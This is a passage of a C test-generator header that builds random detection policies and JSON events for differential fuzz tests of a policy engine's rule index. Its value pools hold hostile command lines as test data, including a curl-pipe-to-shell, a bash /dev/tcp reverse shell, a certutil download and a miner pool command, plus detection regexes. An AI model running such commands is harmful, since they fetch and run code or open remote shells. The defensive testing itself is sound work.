/*
 * index_gen.h — random policies and events for the rule index's
 * differential tests (tests/unit/test_index.c with a seeded generator,
 * tests/fuzz/fuzz_index.c with the fuzzer's bytes as the choices).
 *
 * The property: every decision made with the index equals, byte for byte
 * (pal_decision_json: effect, matches in order, messages, VM error,
 * warning), the decision made without it.  So the generators aim at what
 * the index reasons about: atoms of every kind (sets, globs with and
 * without literal ends, DNS names and wildcards, CIDRs, ports, ==,
 * startswith/endswith/contains, lower()), under and/or/not, quantifiers,
 * regexes, runtime blocks with allow/deny/default and scopes, firewalls
 * whose entry order decides; and events whose values hit, nearly hit
 * (case, '/' for '\', a trailing dot, one label more or less) or miss
 * those keys, on Windows and Linux, sometimes with very long command
 * lines (a `contains` that misses may still spend the budget).
 *
 * Header-only, static functions: each test program includes it once.
 */
#ifndef PAL_INDEX_GEN_H
#define PAL_INDEX_GEN_H

#include "lang/compile/palc.h"
#include "engine/decode/decode.h"
#include "engine/runtime/runtime.h"
#include "engine/runtime/index.h"
#include "engine/vm/opcodes.h"
#include "engine/vm/vm.h"
#include "engine/vm/verify.h"

#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---- choices: fuzzer bytes when there are any left, else a PRNG ---- */

typedef struct ig_gen {
    const uint8_t *data;
    size_t len, pos;
    uint64_t rng;
} ig_gen;

static uint32_t ig_pick(ig_gen *g, uint32_t n)
{
    if (n <= 1) return 0;
    if (g->data && g->pos < g->len) return g->data[g->pos++] % n;
    g->rng ^= g->rng >> 12;
    g->rng ^= g->rng << 25;
    g->rng ^= g->rng >> 27;
    return (uint32_t)(((g->rng * 0x2545f4914f6cdd1dull) >> 33) % n);
}

#define IG_ONE(g, arr) ((arr)[ig_pick((g), (uint32_t)(sizeof(arr) / sizeof((arr)[0])))])

typedef struct ig_buf { char *s; size_t len, cap; } ig_buf;

static void ig_printf(ig_buf *b, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
static void ig_printf(ig_buf *b, const char *fmt, ...)
{
    for (;;) {
        va_list ap;
        va_start(ap, fmt);
        int n = vsnprintf(b->s ? b->s + b->len : NULL, b->s ? b->cap - b->len : 0, fmt, ap);
        va_end(ap);
        if (n < 0) abort();
        if (b->s && (size_t)n < b->cap - b->len) { b->len += (size_t)n; return; }
        size_t nc = (b->cap ? b->cap * 2 : 4096) + (size_t)n;
        char *ns = realloc(b->s, nc);
        if (!ns) abort();
        b->s = ns;
        b->cap = nc;
    }
}

/* ---- value pools: each key comes with near misses ---- */

static const char *const ig_names[] = {
    "cmd.exe", "CMD.EXE", "Cmd.Exe", "powershell.exe", "pwsh", "bash", "sh", "nginx", "w3wp.exe",
    "curl", "xmrig", "python3", "python", "node", "cmd.ex", "md.exe", "certutil.exe", ""};
static const char *const ig_exes[] = {
    "C:\\\\Windows\\\\System32\\\\cmd.exe", "c:/windows/system32/CMD.EXE", "C:\\\\Windows\\\\SysWOW64\\\\cmd.exe",
    "/usr/bin/bash", "/bin/sh", "/usr/sbin/nginx", "C:\\\\app\\\\app.exe", "/opt/x/bin/tool",
    "/usr/bin/curl", "C:\\\\Windows\\\\system32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe", "/bin/bash",
    "/usr/local/bin/python3"};
static const char *const ig_exe_globs[] = {
    "C:\\\\Windows\\\\*", "C:\\\\Windows\\\\**", "*\\\\cmd.exe", "/usr/bin/*", "/opt/**", "*sh", "*",
    "*bin*", "C:\\\\Windows\\\\**\\\\*.exe", "/bin/?h", "/usr/bin/bash", "c:/windows/system32/cmd.exe",
    "**/python3", "/usr/*/nginx"};
static const char *const ig_domains[] = {
    "a.google.com", "Google.COM.", "google.com", "www.bad.example", "bad.example", "x.y.z.pool.xyz",
    "pool.xyz", "localhost", "c2.evil.net.", "evil.net", "notgoogle.com", "a..google.com", "GOOGLE.com",
    "x.interact.sh", "interact.sh."};
static const char *const ig_dns_patterns[] = {
    "*.google.com", "google.com", "*.bad.example", "*.pool.xyz", "evil.net", "*", "evil.net.",
    "*.interact.sh", "localhost", "*.COM"};
static const char *const ig_ips[] = {
    "10.1.2.3", "10.200.0.1", "192.168.1.10", "8.8.8.8", "1.1.1.1", "1.1.1.2", "fd00::1", "2001:db8::5",
    "::1", "127.0.0.1", "172.16.5.4", "192.168.2.1"};
static const char *const ig_cidrs[] = {
    "10.0.0.0/8", "10.1.0.0/16", "192.168.1.0/24", "1.1.1.1", "0.0.0.0/0", "fd00::/8", "2001:db8::/32",
    "127.0.0.0/8", "172.16.0.0/12", "8.8.8.8/32", "::/0"};
static const int ig_ports[] = {22, 53, 80, 443, 4444, 6667, 8080, 3333, 8443, 65535, 0};
static const char *const ig_cmds[] = {
    "powershell -enc QUJDREVG", "curl http://x.example/a.sh | sh", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
    "xmrig -o stratum+tcp://pool.xyz:3333", "history -c", "nginx -g daemon off;", "cmd.exe /c whoami",
    "CMD.EXE /C WHOAMI", "python3 -c 'import pty'", "certutil -urlcache -f http://x/a.exe a.exe",
    "ls -la", "", "powershell -ENC QUJD", "ta\\u017fk \\u212aill", "ASK whoAmi", "hhistory -c", "curl http"};
static const char *const ig_frags[] = {
    "-enc", "/dev/tcp/", "stratum", "STRATUM", "whoami", "history", "| sh", "urlcache", "pty", "/c", "",
    "daemon", "x", "a.exe"};
static const char *const ig_regexes[] = {
    "(?i)-enc\\s", "stratum\\+tcp", "^curl", "(?i)whoami$", "/dev/(tcp|udp)/", "a.exe", "-enc|whoami",
    "(?i)STRATUM", "cu?rl", "cur+l http", "[ch]istory -c", "h{1,2}istory", "\\x68istory", "(?i)ask\\b",
    "wh(?=o)oami", "\\Qa.exe\\E", "(?i)CMD\\.EXE /C", "x{0}whoami", "daemon\\b|^ls", "\\bpty\\b"};
static const char *const ig_images[] = {
    "web:1", "wincontainerapp:v1", "api:2", "front:1", "registry.local/web:3", "WEB:1", "api:20"};
static const char *const ig_image_globs[] = {"web:*", "wincontainerapp:*", "api:?", "*:1", "*", "registry.local/*",
                                             "front:1"};
static const char *const ig_paths[] = {
    "/etc/shadow", "/etc/cron.d/x", "C:\\\\Windows\\\\System32\\\\evil.dll", "/tmp/x", "/usr/bin/ls",
    "/etc/sudoers.d/a", "c:/windows/system32/EVIL.DLL", "/etc/shadow.bak", "/root/.ssh/authorized_keys"};
static const char *const ig_path_globs[] = {
    "/etc/**", "/etc/*", "**/authorized_keys", "*.dll", "C:\\\\Windows\\\\**", "/tmp/**", "/usr/**", "**"};
static const char *const ig_args[] = {"-enc", "-EncodedCommand", "-c", "-i", "/c", "whoami", "-e"};

/* An IP or CIDR as the language writes it: IPv6 in quotes. */
static void ig_ip_lit(ig_buf *b, const char *ip)
{
    ig_printf(b, strchr(ip, ':') ? "\"%s\"" : "%s", ip);
}

static void ig_str_list(ig_gen *g, ig_buf *b, const char *const *pool, uint32_t n)
{
    uint32_t k = 1 + ig_pick(g, 3);
    ig_printf(b, "[");
    for (uint32_t i = 0; i < k; i++) ig_printf(b, "%s\"%s\"", i ? ", " : "", pool[ig_pick(g, n)]);
    ig_printf(b, "]");
}
#define IG_LIST(g, b, arr) ig_str_list((g), (b), (arr), (uint32_t)(sizeof(arr) / sizeof((arr)[0])))

/* ---- expressions, per event kind ---- */

enum { IG_PROCESS, IG_NETWORK, IG_DNS, IG_FILE };

static void ig_atom(ig_gen *g, ig_buf *b, int kind)
{
    /* fields every kind carries first, then the kind's own */
    switch (ig_pick(g, 6) < 2 ? 100 + ig_pick(g, 8) : kind * 20 + ig_pick(g, 12)) {
    case 100: ig_printf(b, "process.name in "); IG_LIST(g, b, ig_names); return;
    case 101: ig_printf(b, "process.name == \"%s\"", IG_ONE(g, ig_names)); return;
    case 102: ig_printf(b, "container.image.name like \"%s\"", IG_ONE(g, ig_image_globs)); return;
    case 103: ig_printf(b, "host.os.type == \"%s\"", ig_pick(g, 2) ? "windows" : "linux"); return;
    case 104: ig_printf(b, "process.%s contains \"%s\"", ig_pick(g, 2) ? "command_line" : "executable", IG_ONE(g, ig_frags)); return;
    case 105: ig_printf(b, "exists(process.parent.name)"); return;
    case 106: ig_printf(b, "process.parent.name in "); IG_LIST(g, b, ig_names); return;
    case 107: ig_printf(b, "%s", ig_pick(g, 2) ? "true" : "false"); return;
    /* process */
    case 0: ig_printf(b, "process.executable like "); IG_LIST(g, b, ig_exe_globs); return;
    case 1: ig_printf(b, "process.executable == \"%s\"", IG_ONE(g, ig_exes)); return;
    case 2: ig_printf(b, "lower(process.name) == \"%s\"", IG_ONE(g, ig_names)); return;
    case 3: ig_printf(b, "process.name startswith \"%.3s\"", IG_ONE(g, ig_names)); return;
    case 4: ig_printf(b, "process.name endswith \".exe\""); return;
    case 5: ig_printf(b, "process.command_line matches '%s'", IG_ONE(g, ig_regexes)); return;
    case 6: ig_printf(b, "any a in process.args: a == \"%s\"", IG_ONE(g, ig_args)); return;
    case 7: ig_printf(b, "\"%s\" in process.args", IG_ONE(g, ig_args)); return;
    case 8: ig_printf(b, "lower(process.command_line) contains \"%s\"", IG_ONE(g, ig_frags)); return;
    case 9: ig_printf(b, "process.executable in "); IG_LIST(g, b, ig_exes); return;
    case 10: ig_printf(b, "process.args contains \"%s\"", IG_ONE(g, ig_args)); return;
    case 11: ig_printf(b, "process.command_line endswith \"%s\"", IG_ONE(g, ig_frags)); return;
    /* network */
    case 20:
        ig_printf(b, "destination.ip in [");
        ig_ip_lit(b, IG_ONE(g, ig_cidrs));
        ig_printf(b, ", ");
        ig_ip_lit(b, IG_ONE(g, ig_cidrs));
        ig_printf(b, "]");
        return;
    case 21: ig_printf(b, "destination.port in [%d, %d..%d]", IG_ONE(g, ig_ports), 8000, 8000 + (int)ig_pick(g, 3000)); return;
    case 22: ig_printf(b, "destination.port == %d", IG_ONE(g, ig_ports)); return;
    case 23: ig_printf(b, "network.direction == \"%s\"", ig_pick(g, 2) ? "outbound" : "inbound"); return;
    case 24: ig_printf(b, "network.transport == \"%s\"", ig_pick(g, 2) ? "tcp" : "udp"); return;
    case 25: ig_printf(b, "destination.domain in "); IG_LIST(g, b, ig_dns_patterns); return;
    case 26: ig_printf(b, "source.ip in ["); ig_ip_lit(b, IG_ONE(g, ig_cidrs)); ig_printf(b, "]"); return;
    case 27: ig_printf(b, "not (destination.ip in [10.0.0.0/8, 192.168.0.0/16])"); return;
    case 28: ig_printf(b, "destination.port in [1..65535]"); return;
    case 29: ig_printf(b, "destination.port > %d", IG_ONE(g, ig_ports)); return;
    case 30: ig_printf(b, "source.container.image.name like \"%s\"", IG_ONE(g, ig_image_globs)); return;
    case 31: ig_printf(b, "destination.ip == "); ig_ip_lit(b, IG_ONE(g, ig_ips)); return;
    /* dns */
    case 40: ig_printf(b, "dns.question.name in "); IG_LIST(g, b, ig_dns_patterns); return;
    case 41: ig_printf(b, "dns.question.name == \"%s\"", IG_ONE(g, ig_domains)); return;
    case 42: ig_printf(b, "dns.question.name like \"*.%s\"", IG_ONE(g, ig_domains)); return;
    case 43: ig_printf(b, "dns.question.name endswith \".net\""); return;
    case 44: ig_printf(b, "any a in dns.resolved_ip: a in ["); ig_ip_lit(b, IG_ONE(g, ig_cidrs)); ig_printf(b, "]"); return;
    case 45: ig_printf(b, "dns.question.name matches '(?i)pool'"); return;
    case 46: ig_printf(b, "not (dns.question.name in [\"*.google.com\"])"); return;
    case 47: ig_printf(b, "dns.question.type == \"A\""); return;
    case 48: ig_printf(b, "dns.question.name like \"%s*\"", IG_ONE(g, ig_domains)); return;
    case 49: ig_printf(b, "count(a in dns.resolved_ip: a in 10.0.0.0/8) > 0"); return;
    case 50: ig_printf(b, "dns.question.name in [\"*\"]"); return;
    case 51: ig_printf(b, "upper(dns.question.name) == \"%s\"", IG_ONE(g, ig_domains)); return;
    /* file */
    case 60: ig_printf(b, "file.path like "); IG_LIST(g, b, ig_path_globs); return;
    case 61: ig_printf(b, "file.path == \"%s\"", IG_ONE(g, ig_paths)); return;
    case 62: ig_printf(b, "file.path startswith \"/etc/\""); return;
    case 63: ig_printf(b, "file.name in [\"shadow\", \"authorized_keys\", \"EVIL.dll\"]"); return;
    case 64: ig_printf(b, "lower(file.extension) in [\"dll\", \"exe\"]"); return;
    case 65: ig_printf(b, "file.path contains \"%s\"", ig_pick(g, 2) ? "system32" : "/etc"); return;
    case 66: ig_printf(b, "file.path in "); IG_LIST(g, b, ig_paths); return;
    case 67: ig_printf(b, "basename(file.path) == \"x\""); return;
    case 68: ig_printf(b, "file.directory like \"/etc*\""); return;
    case 69: ig_printf(b, "file.path matches '^/etc/'"); return;
    case 70: ig_printf(b, "not (file.path like \"/tmp/**\")"); return;
    case 71: ig_printf(b, "file.extension == \"dll\""); return;
    default: ig_printf(b, "process.name in "); IG_LIST(g, b, ig_names); return;
    }
}

static void ig_expr(ig_gen *g, ig_buf *b, int kind, int depth)
{
    uint32_t c = depth >= 3 ? 0 : ig_pick(g, 8);
    switch (c) {
    case 0: case 1: case 2: ig_atom(g, b, kind); return;
    case 3: case 4:
        ig_printf(b, "(");
        ig_expr(g, b, kind, depth + 1);
        ig_printf(b, " and ");
        ig_expr(g, b, kind, depth + 1);
        ig_printf(b, ")");
        return;
    case 5: case 6:
        ig_printf(b, "(");
        ig_expr(g, b, kind, depth + 1);
        ig_printf(b, " or ");
        ig_expr(g, b, kind, depth + 1);
        ig_printf(b, ")");
        return;
    default:
        ig_printf(b, "not (");
        ig_expr(g, b, kind, depth + 1);
        ig_printf(b, ")");
        return;
    }
}

static const char *const ig_kind_names[] = {"process", "network", "dns", "file"};
static const char *const ig_effects[] = {"alert", "prevent", "block"};

static void ig_section_values(ig_gen *g, ig_buf *b, int sec)
{
    uint32_t k = 1 + ig_pick(g, 3);
    for (uint32_t i = 0; i < k; i++) {
        const char *v = sec == IG_PROCESS ? (ig_pick(g, 2) ? IG_ONE(g, ig_names) : ig_pick(g, 2) ? IG_ONE(g, ig_exes) : IG_ONE(g, ig_exe_globs))
                      : sec == IG_DNS ? IG_ONE(g, ig_dns_patterns)
                      : IG_ONE(g, ig_path_globs);
        if (!*v) v = "x";
        ig_printf(b, "%s\"%s\"", i ? ", " : "", v);
    }
}

static void ig_network_entry(ig_gen *g, ig_buf *b)
{
    uint32_t dir = ig_pick(g, 3);
    if (dir) ig_printf(b, "%s ", dir == 1 ? "outbound" : "inbound");
    uint32_t what = ig_pick(g, 3);
    if (what != 1) { ig_printf(b, "ip "); ig_ip_lit(b, IG_ONE(g, ig_cidrs)); ig_printf(b, " "); }
    if (what != 0) ig_printf(b, "port %d ", IG_ONE(g, ig_ports));
}

static void ig_runtime(ig_gen *g, ig_buf *b, unsigned i)
{
    ig_printf(b, "runtime \"rt%u\" {\n", i);
    if (ig_pick(g, 2)) {
        ig_printf(b, "  scope ");
        ig_atom(g, b, 100);   /* fields of every kind */
        ig_printf(b, "\n");
    }
    bool any = false;
    for (int sec = 0; sec < 4; sec++) {
        if (ig_pick(g, 3) == 0 && !(sec == 3 && !any)) continue;
        any = true;
        ig_printf(b, "  %s {\n", ig_kind_names[sec]);
        uint32_t n = ig_pick(g, 4);
        bool deny = false;
        for (uint32_t e = 0; e < n; e++) {
            bool allow = ig_pick(g, 2);
            deny |= !allow;
            ig_printf(b, "    %s ", allow ? "allow" : "deny");
            if (sec == IG_NETWORK) ig_network_entry(g, b);
            else ig_section_values(g, b, sec);
            if (!allow && ig_pick(g, 2)) ig_printf(b, " effect %s", IG_ONE(g, ig_effects));
            ig_printf(b, "\n");
        }
        if (!deny || ig_pick(g, 2)) ig_printf(b, "    default effect %s\n", ig_pick(g, 4) ? IG_ONE(g, ig_effects) : "allow");
        ig_printf(b, "  }\n");
    }
    ig_printf(b, "}\n\n");
}

static void ig_endpoint(ig_gen *g, ig_buf *b, bool from)
{
    switch (ig_pick(g, from ? 4 : 6)) {
    case 0: ig_printf(b, "any"); return;
    case 1: ig_printf(b, "image \"%s\"", IG_ONE(g, ig_image_globs)); return;
    case 2: ig_printf(b, "subnet "); ig_ip_lit(b, IG_ONE(g, ig_cidrs)); return;
    case 3: ig_printf(b, "host \"%s\"", from ? "build-01" : IG_ONE(g, ig_domains)); return;
    case 4: ig_printf(b, "dns \"%s\"", IG_ONE(g, ig_dns_patterns)); return;
    default: ig_printf(b, "image \"%s\"", IG_ONE(g, ig_image_globs)); return;
    }
}

static void ig_firewall(ig_gen *g, ig_buf *b, unsigned i)
{
    ig_printf(b, "firewall \"fw%u\" {\n", i);
    if (ig_pick(g, 3) == 0) {
        ig_printf(b, "  scope ");
        ig_atom(g, b, IG_NETWORK);
        ig_printf(b, "\n");
    }
    uint32_t n = 1 + ig_pick(g, 4);
    for (uint32_t e = 0; e < n; e++) {
        bool allow = ig_pick(g, 2);
        ig_printf(b, "  %s from ", allow ? "allow" : "deny");
        ig_endpoint(g, b, true);
        ig_printf(b, " to ");
        ig_endpoint(g, b, false);
        uint32_t proto = ig_pick(g, 3);
        if (proto) ig_printf(b, " %s", proto == 1 ? "tcp" : "udp");
        if (ig_pick(g, 2)) ig_printf(b, " %d", IG_ONE(g, ig_ports));
        if (!allow && ig_pick(g, 2)) ig_printf(b, " effect %s", IG_ONE(g, ig_effects));
        ig_printf(b, "\n");
    }
    if (ig_pick(g, 2)) ig_printf(b, "  default effect %s\n", IG_ONE(g, ig_effects));
    ig_printf(b, "}\n\n");
}

/* A policy of about nrules declarations. */
static void ig_policy(ig_gen *g, ig_buf *b, unsigned nrules)
{
    ig_printf(b, "package gen\n\n");
    for (unsigned i = 0; i < nrules; i++) {
        uint32_t form = ig_pick(g, 10);
        if (form == 0) { ig_runtime(g, b, i); continue; }
        if (form == 1) { ig_firewall(g, b, i); continue; }
        int kind = (int)ig_pick(g, 4);
        ig_printf(b, "rule \"r%u\" {\n  on %s\n  when ", i, ig_kind_names[kind]);
        ig_expr(g, b, kind, 0);
        ig_printf(b, "\n  effect %s\n", IG_ONE(g, ig_effects));
        if (ig_pick(g, 2)) ig_printf(b, "  message \"r%u {process.name}\"\n", i);
        ig_printf(b, "}\n\n");
    }
}

/* One event as a JSON line. */
static void ig_event(ig_gen *g, ig_buf *b)
{
    int kind = (int)ig_pick(g, 4);
    bool win = ig_pick(g, 2);
    b->len = 0;
    ig_printf(b, "{\"event\":{\"category\":[\"%s\"]}", kind == IG_DNS ? "network" : ig_kind_names[kind]);
    ig_printf(b, ",\"host\":{\"name\":\"%s\",\"os\":{\"type\":\"%s\"}}", ig_pick(g, 2) ? "build-01" : "h2",
              win ? "windows" : "linux");
    if (ig_pick(g, 4)) ig_printf(b, ",\"container\":{\"image\":{\"name\":\"%s\"}}", IG_ONE(g, ig_images));
    ig_printf(b, ",\"process\":{\"name\":\"%s\"", IG_ONE(g, ig_names));
    uint32_t cl = ig_pick(g, 60);
    if (cl < 2) {
        /* a value long enough for a `contains` that misses to charge the
           budget (on a Windows path: case-folded search) */
        ig_printf(b, ",\"%s\":\"", cl ? "command_line" : "executable");
        uint32_t n = 70000 + ig_pick(g, 4) * 20000;
        ig_printf(b, "%*s", (int)n, "");
        for (uint32_t i = 0; i < n; i++) b->s[b->len - n + i] = "aAbx/ -"[ig_pick(g, 7)];
        ig_printf(b, "\"");
        if (cl) ig_printf(b, ",\"executable\":\"%s\"", IG_ONE(g, ig_exes));
    } else {
        ig_printf(b, ",\"executable\":\"%s\"", IG_ONE(g, ig_exes));
        if (cl > 4) ig_printf(b, ",\"command_line\":\"%s\"", IG_ONE(g, ig_cmds));
    }
    if (ig_pick(g, 2)) {
        ig_printf(b, ",\"args\":[");
        uint32_t n = ig_pick(g, 4);
        for (uint32_t i = 0; i < n; i++) ig_printf(b, "%s\"%s\"", i ? "," : "", IG_ONE(g, ig_args));
        ig_printf(b, "]");
    }
    if (ig_pick(g, 2)) ig_printf(b, ",\"parent\":{\"name\":\"%s\"}", IG_ONE(g, ig_names));
    ig_printf(b, "}");
    switch (kind) {
    case IG_NETWORK: case IG_DNS:
        if (ig_pick(g, 3)) ig_printf(b, ",\"network\":{\"direction\":\"%s\",\"transport\":\"%s\"%s}",
                                     ig_pick(g, 2) ? "outbound" : "inbound", ig_pick(g, 2) ? "tcp" : "udp",
                                     kind == IG_DNS ? ",\"protocol\":\"dns\"" : "");
        else if (kind == IG_DNS) ig_printf(b, ",\"network\":{\"protocol\":\"dns\"}");
        ig_printf(b, ",\"source\":{\"ip\":\"%s\",\"port\":%d", IG_ONE(g, ig_ips), 40000 + (int)ig_pick(g, 100));
        if (ig_pick(g, 3) == 0) ig_printf(b, ",\"container\":{\"image\":{\"name\":\"%s\"}}", IG_ONE(g, ig_images));
        ig_printf(b, "},\"destination\":{\"ip\":\"%s\"", IG_ONE(g, ig_ips));
        if (ig_pick(g, 4)) ig_printf(b, ",\"port\":%d", ig_pick(g, 3) ? IG_ONE(g, ig_ports) : 8000 + (int)ig_pick(g, 3000));
        if (ig_pick(g, 2)) ig_printf(b, ",\"domain\":\"%s\"", IG_ONE(g, ig_domains));
        if (ig_pick(g, 3) == 0) ig_printf(b, ",\"container\":{\"image\":{\"name\":\"%s\"}}", IG_ONE(g, ig_images));
        ig_printf(b, "}");
        if (kind == IG_DNS) {
            ig_printf(b, ",\"dns\":{\"question\":{\"name\":\"%s\",\"type\":\"A\"}", IG_ONE(g, ig_domains));
            if (ig_pick(g, 2)) ig_printf(b, ",\"resolved_ip\":[\"%s\",\"%s\"]", IG_ONE(g, ig_ips), IG_ONE(g, ig_ips));
            ig_printf(b, "}");
        }
        break;
    case IG_FILE: {
        const char *path = IG_ONE(g, ig_paths);
        ig_printf(b, ",\"file\":{\"path\":\"%s\",\"name\":\"%s\",\"extension\":\"%s\",\"directory\":\"/etc\"}", path,
                  ig_pick(g, 2) ? "shadow" : "EVIL.dll", ig_pick(g, 2) ? "DLL" : "txt");
        break;
    }
    default:
        break;
    }
    ig_printf(b, "}");
}

/* ---- bytecode the compiler would not write ---- */

/* Mutates a few instructions of a compiled program (jump offsets moved by
   one, opcodes swapped for others of the same stack effect, neighbours
   swapped, operands changed) and prepares it again: the verifier keeps
   what is still well formed, and the index must stay exact on that too
   (jumps into the middle of patterns, constants on the other side, EMITs
   of other outcomes...).  Returns false when the result does not verify
   (the program is then unusable and must be freed). */
static bool ig_mutate(ig_gen *g, pal_program *p)
{
    if (!p->ncode) return false;
    uint32_t n = 1 + ig_pick(g, 4);
    for (uint32_t k = 0; k < n; k++) {
        uint32_t pc = ig_pick(g, p->ncode);
        pal_instr in = p->code[pc];
        unsigned op = PAL_OP(in);
        switch (ig_pick(g, 6)) {
        case 0:   /* a jump lands one off */
            if (op == OP_JUMP || op == OP_JUMP_IF_FALSE || op == OP_AND_JUMP || op == OP_OR_JUMP)
                p->code[pc] = PAL_MK_SJ(op, PAL_SJ(in) + (ig_pick(g, 2) ? 1 : -1));
            break;
        case 1: { /* same stack effect, other meaning */
            static const unsigned unary[] = {OP_NOT, OP_TO_BOOL, OP_EXISTS, OP_NOP};
            static const unsigned binary[] = {OP_EQ, OP_NE, OP_STARTSWITH, OP_ENDSWITH, OP_CONTAINS, OP_LT};
            static const unsigned jumps[] = {OP_JUMP_IF_FALSE, OP_AND_JUMP, OP_OR_JUMP};
            if (op == OP_NOT || op == OP_TO_BOOL || op == OP_EXISTS)
                p->code[pc] = IG_ONE(g, unary);
            else if (op == OP_EQ || op == OP_NE || op == OP_STARTSWITH || op == OP_ENDSWITH || op == OP_CONTAINS)
                p->code[pc] = IG_ONE(g, binary);
            else if (op == OP_AND_JUMP || op == OP_OR_JUMP)
                p->code[pc] = PAL_MK_SJ(IG_ONE(g, jumps) == OP_JUMP_IF_FALSE ? OP_OR_JUMP : OP_AND_JUMP, PAL_SJ(in));
            else if (op == OP_PUSH_TRUE || op == OP_PUSH_FALSE)
                p->code[pc] = op == OP_PUSH_TRUE ? OP_PUSH_FALSE : OP_PUSH_TRUE;
            break;
        }
        case 2:   /* neighbours swap (a constant before its field, ...) */
            if (pc + 1 < p->ncode) { p->code[pc] = p->code[pc + 1]; p->code[pc + 1] = in; }
            break;
        case 3:   /* another constant, field or matcher */
            if (op == OP_PUSH_CONST && p->nconsts) p->code[pc] = PAL_MK_A(op, ig_pick(g, p->nconsts));
            else if (op == OP_LOAD_FIELD) p->code[pc] = PAL_MK_A(op, ig_pick(g, 80));
            else if (op == OP_MATCH_FIELD && p->nmatchers)
                p->code[pc] = PAL_MK_AB(op, ig_pick(g, p->nmatchers < 256 ? p->nmatchers : 256), ig_pick(g, 80));
            else if (op == OP_EMIT) p->code[pc] = PAL_MK_A(op, ig_pick(g, 3));
            break;
        case 4:   /* lower() in front of a comparison */
            if (op == OP_NOT || op == OP_TO_BOOL) p->code[pc] = PAL_MK_AB(OP_CALL, PAL_BI_lower, 1);
            break;
        default:  /* an outcome's effect changes (allow ones are not reports) */
            if (p->noutcomes) p->outcomes[ig_pick(g, p->noutcomes)].effect = (uint8_t)(1 + ig_pick(g, 4));
            break;
        }
    }
    char err[512];
    return pal_program_prepare(p, err, sizeof err) == 0;
}

/* Gives p the index hints a bundle carries (pal_index_attach_hints) and
   then alters some as a crafted bundle could, within what the verifier
   accepts (states 0..3, atoms inside the rule's code): a state changed, an
   atom's keyed flag flipped, an atom moved to another instruction,
   dropped, or one added.  The index must prove or re-search each rule, so
   decisions stay those without the index.  Returns false when out of
   memory or when the result does not verify (a bug in this mutator). */
static bool ig_mutate_hints(ig_gen *g, pal_program *p)
{
    if (pal_index_attach_hints(p) != 0) return false;
    if (!p->nrules) return true;
    uint32_t cap = p->nixatoms + 2 * p->nrules + 1, n = 0;
    uint32_t *atoms = malloc(cap * sizeof *atoms);
    if (!atoms) return false;
    for (uint32_t r = 0; r < p->nrules; r++) {
        pal_ixrule *h = &p->ixrules[r];
        uint32_t first = n, len = p->rules[r].code_len;
        bool touch = ig_pick(g, 3) == 0;
        for (uint32_t k = 0; k < h->count; k++) {
            uint32_t v = p->ixatoms[h->first + k];
            if (touch) {
                switch (ig_pick(g, 5)) {
                case 0: v ^= PAL_IXATOM_KEY; break;
                case 1: v = (v & PAL_IXATOM_KEY) | ig_pick(g, len); break;
                case 2: continue;   /* dropped */
                default: break;
                }
            }
            atoms[n++] = v;
        }
        if (touch && ig_pick(g, 3) == 0 && n - first < len)
            atoms[n++] = ig_pick(g, len) | (ig_pick(g, 2) ? PAL_IXATOM_KEY : 0);
        if (touch && ig_pick(g, 3) == 0) h->state = (uint8_t)ig_pick(g, 4);
        h->first = first;
        h->count = n - first;
    }
    free(p->ixatoms);
    p->ixatoms = atoms;
    p->nixatoms = n;
    char err[512];
    if (pal_verify(p, err, sizeof err) != 0) {
        fprintf(stderr, "ig_mutate_hints: the hints do not verify: %s\n", err);
        return false;
    }
    return true;
}

/* ---- compiling from memory and comparing decisions ---- */

typedef struct ig_files { const char *path[8]; const char *text[8]; size_t n; } ig_files;

static int ig_read(void *user, const char *relpath, char **data, size_t *len)
{
    const ig_files *f = user;
    for (size_t i = 0; i < f->n; i++)
        if (!strcmp(f->path[i], relpath)) {
            size_t n = strlen(f->text[i]);
            *data = malloc(n + 1);
            if (!*data) return -1;
            memcpy(*data, f->text[i], n + 1);
            *len = n;
            return 0;
        }
    return -1;
}

static void ig_quiet(const pal_diagnostic *d, void *user) { (void)d; (void)user; }

/* Compiles the .pal files among files (NULL when it does not compile). */
static pal_program *ig_compile(ig_files *files, bool verbose)
{
    const char *paths[8];
    size_t np = 0;
    for (size_t i = 0; i < files->n; i++) {
        size_t l = strlen(files->path[i]);
        if (l > 4 && !strcmp(files->path[i] + l - 4, ".pal")) paths[np++] = files->path[i];
    }
    pal_compile_opts o = {0};
    o.revision = "gen";
    o.build_time = 1;
    o.diag = verbose ? NULL : ig_quiet;
    o.read = ig_read;
    o.read_user = files;
    unsigned ne = 0;
    return pal_compile(paths, np, &o, &ne, NULL);
}

static pal_program *ig_compile_text(const char *text, bool verbose)
{
    ig_files f = {{"policy.pal"}, {text}, 1};
    return ig_compile(&f, verbose);
}

typedef struct ig_diff {
    pal_runtime *with, *without;
    pal_arena arena;
    uint64_t events, decided, matched, mismatches, vm_errors;
    uint64_t runs_with, runs_without;
} ig_diff;

static bool ig_diff_init(ig_diff *d, const pal_program *p)
{
    memset(d, 0, sizeof *d);
    d->with = pal_runtime_new(p);
    d->without = pal_runtime_new(p);
    pal_arena_init(&d->arena, 0);
    if (!d->with || !d->without) return false;
    return pal_runtime_set_index(d->with, true) && !pal_runtime_set_index(d->without, false);
}

static void ig_diff_free(ig_diff *d)
{
    pal_runtime_free(d->with);
    pal_runtime_free(d->without);
    pal_arena_free(&d->arena);
}

/* Decides one JSON line both ways; false (after printing both) if they differ. */
static bool ig_diff_line(ig_diff *d, const char *line, size_t len, const char *policy)
{
    pal_event ev;
    char err[256];
    pal_arena_reset(&d->arena);
    d->events++;
    if (pal_event_decode(line, len, PAL_INPUT_AUTO, NULL, &d->arena, &ev, err, sizeof err) != 0) return true;
    d->decided++;
    pal_decision a, b;
    uint64_t r0 = pal_runtime_rules_run(d->with), r1 = pal_runtime_rules_run(d->without);
    if (pal_decide_event(d->with, &ev, &a) != 0) abort();
    char *ja = pal_decision_json(d->with, &a, 1);
    if (pal_decide_event(d->without, &ev, &b) != 0) abort();
    char *jb = pal_decision_json(d->without, &b, 1);
    d->runs_with += pal_runtime_rules_run(d->with) - r0;
    d->runs_without += pal_runtime_rules_run(d->without) - r1;
    d->matched += b.nmatches != 0;
    d->vm_errors += b.vm_error != 0;
    bool same = ja && jb && !strcmp(ja, jb);
    if (!same) {
        d->mismatches++;
        if (d->mismatches <= 3) {
            fprintf(stderr, "index differential: decisions differ\n  with index:    %s\n  without index: %s\n  event: %.*s\n",
                    ja ? ja : "(null)", jb ? jb : "(null)", (int)(len > 2000 ? 2000 : len), line);
